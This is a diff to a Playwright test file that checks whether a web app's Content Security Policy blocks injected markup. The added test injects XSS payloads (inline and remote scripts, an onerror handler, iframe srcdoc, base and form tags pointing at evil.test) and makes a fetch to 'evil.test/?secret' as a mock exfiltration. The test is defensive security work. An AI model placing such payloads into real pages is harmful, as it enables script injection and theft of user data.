@@ -44,8 +44,9 @@ test("every page route and every dead end has the answer's nonce on each script,
     "/account/nothing",
   ];
   const seen = new Set<string>();
+  const all = [...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds];
   for (const client of [admin, waiting, other, new Client()]) {
-    for (const path of [...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds]) {
+    for (const path of all) {
       const { headers, text } = await client.send("GET", path);
       if (!headers.get("content-type")?.startsWith("text/html")) continue;
       seen.add(path);
@@ -58,9 +59,7 @@ test("every page route and every dead end has the answer's nonce on each script,
     }
   }
   // None was left out because everybody was sent elsewhere.
-  expect([...seen].sort()).toEqual(
-    [...new Set([...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds])].sort(),
-  );
+  expect([...seen].sort()).toEqual([...new Set(all)].sort());
 });
 
 for (const colorScheme of ["light", "dark"] as const) {
@@ -109,6 +108,20 @@ for (const colorScheme of ["light", "dark"] as const) {
   });
 }
 
+/** What somebody's name or a help answer would be, had it got into a page unescaped. */
+const markup = `
+  <script>window.ran = "inline"</script>
+  <script src="https://evil.test/x.js"></script>
+  <img src="https://evil.test/x.png">
+  <img src="x" onerror="window.ran = 'handler'">
+  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
+  <iframe src="https://evil.test/"></iframe>
+  <object data="https://evil.test/x"></object>
+  <base href="https://evil.test/">
+  <link rel="stylesheet" href="https://evil.test/x.css">
+  <style>body { background: red }</style>
+  <p style="position: fixed; inset: 0"></p>`;
+
 test("attack: markup that got into a page runs nothing, loads nothing and sends nothing away", async ({
   page,
   world,
@@ -117,48 +130,41 @@ test("attack: markup that got into a page runs nothing, loads nothing and sends 
   await signIn(page, await someone(world));
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url()));
-  const ran = await page.evaluate(async () => {
-    const holder = document.createElement("div");
-    holder.innerHTML = `
-      <img src="https://evil.test/x.png" onerror="window.ran = 'handler'">
-      <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
-      <object data="https://evil.test/x"></object>
-      <base href="https://evil.test/">
-      <a id="evil" href="javascript:window.ran='link'">x</a>
-      <form id="form" action="https://evil.test/" method="post"></form>
-      <style>body { background: red }</style>
-      <p style="position: fixed; inset: 0">x</p>`;
-    document.body.append(holder);
-    const injected = document.createElement("script");
-    // As a parser would put it in: markup, not a call.
-    document.write?.call;
-    injected.textContent = "window.ran = 'inline'";
-    document.body.append(injected);
-    for (const code of ["eval", "Function"]) {
-      try {
-        (window as unknown as Record<string, (text: string) => unknown>)[code]?.("window.ran = 'eval'");
-      } catch {}
-    }
-    await fetch("https://evil.test/?secret").catch(() => {});
-    document.querySelector<HTMLElement>("#evil")?.click();
-    document.querySelector<HTMLFormElement>("#form")?.submit();
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    return (window as unknown as { ran?: string }).ran ?? "nothing";
+  await page.route("**/account", async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, `$&${markup}`) });
   });
-  expect(ran).toBe("nothing");
-  expect(asked.filter((url) => url.includes("evil.test"))).toEqual([]);
-  expect(page.url()).not.toContain("evil.test");
-  const directives = new Set(complaints.map((complaint) => complaint.split(" ", 1)[0]));
-  for (const directive of [
-    "script-src-attr",
+  await page.goto("/account");
+  await page.evaluate(() => {
+    // Later, because what a test calls in a page directly may use eval in spite of any policy.
+    setTimeout(() => {
+      const { eval: evil } = window;
+      evil("window.ran = 'eval'");
+    });
+    setTimeout("window.ran = 'timer'");
+    setTimeout(() => {
+      const link = Object.assign(document.createElement("a"), { href: "javascript:window.ran='link'" });
+      const form = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
+      document.body.append(link, form);
+      link.click();
+      form.submit();
+    });
+    setTimeout(() => void fetch("https://evil.test/?secret").catch(() => {}));
+  });
+  const refused = () => [...new Set(complaints.map((complaint) => complaint.split(" ", 1)[0]))];
+  const directives = [
+    "script-src",
     "script-src-elem",
-    "img-src",
+    "script-src-attr",
     "style-src-elem",
     "style-src-attr",
-    "connect-src",
-  ]) {
-    expect([...directives], directive).toContain(directive);
-  }
+    "img-src",
+  ];
+  directives.push("connect-src", "frame-src", "object-src", "base-uri", "form-action");
+  await expect.poll(refused).toEqual(expect.arrayContaining(directives));
+  expect(await page.evaluate(() => (window as unknown as { ran?: string }).ran)).toBeUndefined();
+  expect(asked.filter((url) => url.includes("evil.test"))).toEqual([]);
+  expect(new URL(page.url()).pathname).toBe("/account");
 });
 
 test("E11 attack: another site's page shows none of ours in a frame", async ({ page, world, baseURL }) => {
